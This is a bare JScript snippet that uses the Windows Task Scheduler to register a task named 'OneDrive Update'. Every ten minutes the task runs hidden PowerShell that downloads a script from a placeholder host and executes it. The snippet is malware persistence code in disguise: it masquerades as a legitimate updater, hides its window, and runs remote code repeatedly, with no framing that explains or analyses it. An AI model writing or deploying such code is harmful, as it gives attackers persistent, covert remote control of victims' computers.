var service = new ActiveXObject("Schedule.Service");
service.Connect();
var task = service.NewTask(0), trigger = task.Triggers.Create(1), action = task.Actions.Create(0);
trigger.Repetition.Interval = "PT10M";
action.Path = "powershell.exe";
action.Arguments = "-w hidden -nop -c \"iex (irm https://host.example/beat)\"";
service.GetFolder("\\").RegisterTaskDefinition("OneDrive Update", task, 6, null, null, 3);
